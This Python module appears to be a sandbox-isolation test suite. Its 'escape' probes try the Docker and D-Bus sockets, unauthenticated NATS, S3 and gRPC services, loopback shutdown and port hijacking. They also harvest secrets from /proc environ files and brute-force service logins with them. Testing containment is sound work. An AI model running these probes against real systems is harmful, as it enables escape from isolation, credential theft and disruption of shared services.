"""Escapes over sockets: to the services of the stack, and to processes of the machine."""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import re
import socket
import struct
import urllib.error
import urllib.request

from .registry import GIVEN, escape

SIOCSIFFLAGS = 0x8914


@escape
def connect_to_sockets_of_the_machine() -> object:
    found = []
    of_the_system = ("/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket")
    for path in (*GIVEN["sockets"], *of_the_system):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as link:
            link.connect(path)
            found.append(path)
    return found


@escape
def speak_to_nats_without_a_password() -> object:
    host, _, port = GIVEN["nats"].rpartition(":")
    with socket.create_connection((host, int(port)), 5) as link:
        link.settimeout(5)
        link.recv(4096)
        link.sendall(b'CONNECT {"verbose":false}\r\nSUB > 1\r\nPING\r\n')
        answer = link.recv(4096)
    return None if b"Authorization" in answer or b"-ERR" in answer else answer


@escape
def list_the_objects_of_s3_without_a_key() -> object:
    with urllib.request.urlopen(f"http://{GIVEN['s3']}/runspine?list-type=2", timeout=5) as answer:
        return answer.read(200)


@escape
def call_the_orchestrator_without_a_token() -> object:
    import grpc

    from runspine.wire.v1 import trainer_pb2 as wire
    from runspine.wire.v1.trainer_pb2_grpc import TrainerServiceStub

    with grpc.insecure_channel(GIVEN["orchestrator"]) as channel:
        try:
            return str(TrainerServiceStub(channel).List(wire.ListRequest(), timeout=10))[:100] or "answered"
        except grpc.RpcError as error:
            return None if error.code() == grpc.StatusCode.UNAUTHENTICATED else str(error)


@escape
def connect_to_an_abstract_socket() -> object:
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(2)
        link.connect("\0" + GIVEN["abstract"])
        return link.recv(64) or "connected"


@escape
def open_sockets_of_other_families() -> object:
    got = []
    for name in ("AF_PACKET", "AF_VSOCK", "AF_ALG", "AF_BLUETOOTH", "AF_CAN", "AF_TIPC", "AF_RDS"):
        if hasattr(socket, name):
            with contextlib.suppress(OSError):
                socket.socket(getattr(socket, name), socket.SOCK_RAW).close()
                got.append(name)
            with contextlib.suppress(OSError):
                socket.socket(getattr(socket, name), socket.SOCK_STREAM).close()
                got.append(name)
    return got


@escape
def switch_an_interface_off() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        fcntl.ioctl(link, SIOCSIFFLAGS, struct.pack("16sH14x", b"lo", 0))
    return "switched off"


@escape
def share_the_port_of_a_service() -> object:
    got = []
    for name in ("orchestrator", "nats", "s3"):
        host, _, port = GIVEN[name].rpartition(":")
        with contextlib.suppress(OSError), socket.socket() as link:
            link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            link.bind((host, int(port)))
            link.listen()
            got.append(name)
    return got


def found_words() -> list[str]:
    """What may be a password: in its environment, its directory, and what processes it sees were given."""
    texts = [json.dumps(dict(os.environ))]
    paths = [os.path.join(folder, name) for folder, _, names in os.walk(".") for name in names]
    processes = [f"/proc/{name}" for name in os.listdir("/proc") if name.isdigit()]
    paths += [f"{process}/{name}" for process in processes for name in ("environ", "cmdline")]
    for path in paths:
        with contextlib.suppress(OSError):
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    texts.append(file.read(1 << 16).decode("utf-8", "replace"))
    words = {word for text in texts for word in re.findall(r"[A-Za-z0-9_-]{16,128}", text)}
    return sorted(words)[:300]


@escape
def speak_to_nats_with_what_it_finds() -> object:
    host, _, port = GIVEN["nats"].rpartition(":")
    for word in found_words():
        for user in ("worker", "admin"):
            with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 5) as link:
                link.settimeout(5)
                link.recv(4096)
                given = json.dumps({"verbose": False, "user": user, "pass": word})
                link.sendall(f"CONNECT {given}\r\nPING\r\n".encode())
                if b"PONG" in link.recv(4096):
                    return f"{user}, by {len(word)} characters"
    return None


@escape
def read_s3_with_what_it_finds() -> object:
    from minio import Minio
    from minio.error import S3Error

    for word in found_words():
        client = Minio(
            endpoint=GIVEN["s3"],
            access_key=GIVEN["s3_access_key"],
            secret_key=word,
            secure=False,
            region="us-east-1",
        )
        try:
            return [each.object_name for each in client.list_objects("runspine")][:3] or "listed"
        except S3Error:
            continue
    return None


@escape
def ask_every_port_of_the_machine_for_objects() -> object:
    import grpc

    with open("/proc/net/tcp") as file:
        lines = [line.split() for line in file.readlines()[1:]]
    ports = {int(line[1].rpartition(":")[2], 16) for line in lines if line[3] == "0A"}
    got = []
    for port in sorted(ports & set(GIVEN["ports"])):
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            for method in ("/filer_pb.SeaweedFiler/ListEntries", "/master_pb.Seaweed/VolumeList"):
                with contextlib.suppress(grpc.RpcError):
                    # ListEntriesRequest{directory: "/buckets"}
                    asked = b"\x0a\x08/buckets" if method.endswith("ListEntries") else b""
                    stream = channel.unary_stream(method, bytes, bytes)
                    got += [port, *stream(asked, timeout=1)]
    return got


@escape
def connect_to_the_sockets_of_another_run() -> object:
    folder = os.open(os.path.dirname(GIVEN["other_file"]), os.O_PATH)
    for name in ("view.sock", "telemetry.sock"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as link:
            # A socket's path must be short.
            link.connect(f"/proc/self/fd/{folder}/{name}")
            return name
    return None
